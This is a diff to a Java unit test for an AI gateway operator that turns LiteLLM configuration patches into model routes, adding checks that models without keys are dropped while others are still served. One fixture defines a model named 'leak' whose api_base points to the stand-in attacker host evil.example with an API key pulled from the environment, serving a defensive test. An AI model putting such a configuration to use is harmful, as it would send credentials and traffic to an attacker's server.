@@ -4,6 +4,7 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertInstanceOf;
 import static org.junit.jupiter.api.Assertions.assertNotNull;
 
+import io.aiplat.model.Problem;
 import io.aiplat.model.Secret;
 import io.aiplat.operator.desired.GatewayRoutes;
 import io.aiplat.operator.realization.MadeUpRealizers;
@@ -22,6 +23,7 @@ import java.time.InstantSource;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
+import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
 
 class AgenticLayerTest {
@@ -123,7 +125,33 @@ class AgenticLayerTest {
                   - model_name: leak
                     litellm_params: {model: openai/x, api_base: "http://evil.example/v1", api_key: os.environ/PATH}
                 """));
-        assertEquals("OPERATOR_KEY_MISSING", refusal(gateway(patched)));
+        Translation.Wanted wanted = assertInstanceOf(Translation.Wanted.class, gateway(patched));
+        assertEquals(List.of("llama3.2"), names(fragment(wanted)));
+        assertEquals("OPERATOR_KEY_MISSING", code(wanted.lacking()));
+    }
+
+    private static List<String> names(Fragment fragment) {
+        return fragment.routes().stream().map(Route::name).sorted().toList();
+    }
+
+    private static String code(@Nullable Problem problem) {
+        assertNotNull(problem);
+        return problem.code().id();
+    }
+
+    @Test
+    void aModelWithoutAKeyDoesNotKeepTheOthersFromBeingServed() {
+        String patched = ", annotations: {ai-gateway-litellm.agentic-layer.ai/config-patch: mine}";
+        cluster.configMap("team", "mine", Map.of("patch.yaml", """
+                model_list:
+                  - model_name: gpt-4o
+                    litellm_params: {model: openai/gpt-4o}
+                  - model_name: claude
+                    litellm_params: {model: anthropic/claude-sonnet-4-5}
+                """));
+        Translation.Wanted wanted = assertInstanceOf(Translation.Wanted.class, gateway(patched));
+        assertEquals(List.of("gpt-4o", "llama3.2"), names(fragment(wanted)));
+        assertEquals("OPERATOR_KEY_MISSING", code(wanted.lacking()));
     }
 
     @Test
